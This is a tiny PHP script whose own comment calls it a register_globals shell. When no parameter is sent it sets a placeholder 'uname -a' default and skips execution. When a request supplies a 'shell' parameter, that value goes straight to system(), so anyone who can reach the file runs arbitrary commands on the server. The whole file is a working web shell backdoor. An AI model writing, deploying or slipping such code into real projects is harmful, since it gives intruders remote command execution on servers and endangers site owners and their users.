<?php
// A register_globals shell: $shell is the request parameter of that name
// (PHP 4 set it); the file only gives it a default when it is missing.
if (!isset($shell)) {
    $shell = "#uname -a";
    $skip = 1;
}
if (!isset($skip)) system($shell);
